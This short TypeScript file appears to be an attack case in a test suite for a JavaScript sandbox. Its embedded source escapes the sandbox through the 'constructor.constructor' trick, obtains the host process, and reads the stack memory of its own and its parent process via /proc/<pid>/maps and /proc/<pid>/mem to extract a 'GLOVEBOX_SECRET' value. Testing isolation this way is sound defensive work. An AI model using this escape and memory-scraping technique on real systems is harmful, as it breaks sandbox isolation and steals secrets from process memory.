import { attack } from '../attack.ts';

/** Reads the memory of its own process and of its parent, where the secret must be as text. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const process = host?.constructor.constructor('return process')();
		const fs = process?.getBuiltinModule('fs');
		if (!fs) return;
		for (const pid of [process.ppid, process.pid]) {
			try {
				const [stack] = fs.readFileSync(\`/proc/\${pid}/maps\`, 'utf8').split('\\n').filter((line) => line.includes('[stack]'));
				const [from, to] = stack.split(' ')[0].split('-').map((text) => parseInt(text, 16));
				const handle = fs.openSync(\`/proc/\${pid}/mem\`, 'r');
				const bytes = new (host.constructor.constructor('return Uint8Array')())(to - from);
				fs.readSync(handle, bytes, 0, bytes.length, from);
				const text = process.getBuiltinModule('buffer').Buffer.from(bytes).toString('latin1');
				const at = text.indexOf('GLOVEBOX_SECRET=');
				if (at >= 0) return text.slice(at, at + 60);
			} catch {}
		}
		return 'nothing';
	`,
});
